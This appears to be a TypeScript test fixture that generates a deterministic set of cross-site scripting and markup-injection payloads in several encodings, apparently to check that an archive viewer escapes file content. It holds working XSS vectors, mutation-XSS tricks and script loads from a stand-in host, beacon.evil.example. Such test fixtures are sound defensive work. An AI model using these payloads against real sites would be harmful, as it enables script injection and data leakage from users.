// Hostile archive vectors: markup that would run script, load something or restyle the page if it
// ever reached the page as markup. Each base payload is written in several encodings; every one
// names its own id, so a hit (`__hit(id)` in the page, or a request to beacon.evil.example/<id>)
// says which vector got through. Generated, deterministic.

export const BEACON = 'https://beacon.evil.example';

/** Base payloads; `{ID}` is replaced by the vector id. */
const PAYLOADS: [string, string][] = [
  ['script', `<script>__hit('{ID}')</script>`],
  ['script-src', `<script src="${BEACON}/{ID}.js"></script>`],
  ['img-onerror', `<img src="x" onerror="__hit('{ID}')">`],
  ['img-beacon', `<img src="${BEACON}/{ID}.png">`],
  ['svg-onload', `<svg onload="__hit('{ID}')"></svg>`],
  ['svg-script', `<svg><script>__hit('{ID}')</script></svg>`],
  ['svg-animate', `<svg><animate onbegin="__hit('{ID}')" attributeName="x" dur="1s"/></svg>`],
  ['iframe-srcdoc', `<iframe srcdoc="<script>parent.__hit('{ID}')</script>"></iframe>`],
  ['iframe-js', `<iframe src="javascript:parent.__hit('{ID}')"></iframe>`],
  ['a-javascript', `<a href="javascript:__hit('{ID}')" id="a{ID}">click</a>`],
  ['base', `<base href="${BEACON}/{ID}/">`],
  ['meta-refresh', `<meta http-equiv="refresh" content="0;url=${BEACON}/{ID}">`],
  ['style-import', `<style>@import url("${BEACON}/{ID}.css"); body { background: red !important; }</style>`],
  ['style-attr', `<div style="background-image:url(${BEACON}/{ID}.png);position:fixed;inset:0;z-index:2147483647">x</div>`],
  ['link-css', `<link rel="stylesheet" href="${BEACON}/{ID}.css">`],
  ['object', `<object data="${BEACON}/{ID}.swf"></object>`],
  ['embed', `<embed src="${BEACON}/{ID}.swf">`],
  ['video-poster', `<video poster="${BEACON}/{ID}.jpg" onerror="__hit('{ID}')"><source onerror="__hit('{ID}')"></video>`],
  ['details-toggle', `<details open ontoggle="__hit('{ID}')">x</details>`],
  ['autofocus', `<input autofocus onfocus="__hit('{ID}')">`],
  ['body-onload', `<body onload="__hit('{ID}')">`],
  ['form-action', `<form action="javascript:__hit('{ID}')"><button id="b{ID}">go</button></form>`],
  ['math-mxss', `<math><mtext><table><mglyph><style><img src=x onerror="__hit('{ID}')"></style></mglyph></table></mtext></math>`],
  ['noscript-mxss', `<noscript><p title="</noscript><img src=x onerror=__hit('{ID}')>"></noscript>`],
  ['template', `<template><script>__hit('{ID}')</script></template><img src=x onerror=__hit('{ID}')>`],
  ['srcset', `<img srcset="${BEACON}/{ID}-1x.png 1x, ${BEACON}/{ID}-2x.png 2x">`],
  ['picture', `<picture><source srcset="${BEACON}/{ID}.webp"><img src="x" onerror="__hit('{ID}')"></picture>`],
  ['marquee', `<marquee onstart="__hit('{ID}')">x</marquee>`],
  ['textarea-breakout', `</textarea><script>__hit('{ID}')</script><textarea>`],
  ['title-breakout', `</title><script>__hit('{ID}')</script>`],
  ['comment-breakout', `--><script>__hit('{ID}')</script><!--`],
  ['cdata', `<![CDATA[><script>__hit('{ID}')</script>]]>`],
  ['data-uri', `<iframe src="data:text/html,<script>parent.__hit('{ID}')</script>"></iframe>`],
  ['xlink', `<svg><a xlink:href="javascript:__hit('{ID}')"><text y="20">x</text></a></svg>`],
  ['bidi', `\u202e{ID}gpj.exe\u202c \u2066<b>x</b>\u2069`],
];

/** How a payload is written into the archive file's body. */
const ENCODINGS: [string, (html: string) => string][] = [
  ['raw', (h) => h],
  ['entity', (h) => h.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;')],
  ['double-entity', (h) => h.replace(/&/g, '&amp;amp;').replace(/</g, '&amp;lt;').replace(/>/g, '&amp;gt;')],
  ['numeric-entity', (h) => h.replace(/[<>"']/g, (c) => `&#${c.charCodeAt(0)};`)],
  ['upper-case', (h) => h.replace(/<(\/?)([a-z]+)/g, (_m, s: string, t: string) => `<${s}${t.toUpperCase()}`)],
  ['percent', (h) => encodeURIComponent(h)],
];

export interface Vector {
  id: string;
  payload: string;
  encoding: string;
  /** As written into the archive file's body. */
  html: string;
}

export function vectors(): Vector[] {
  const out: Vector[] = [];
  for (const [payload, template] of PAYLOADS) {
    for (const [encoding, encode] of ENCODINGS) {
      const id = `v${String(out.length).padStart(3, '0')}`;
      out.push({ id, payload, encoding, html: encode(template.replaceAll('{ID}', id)) });
    }
  }
  return out;
}
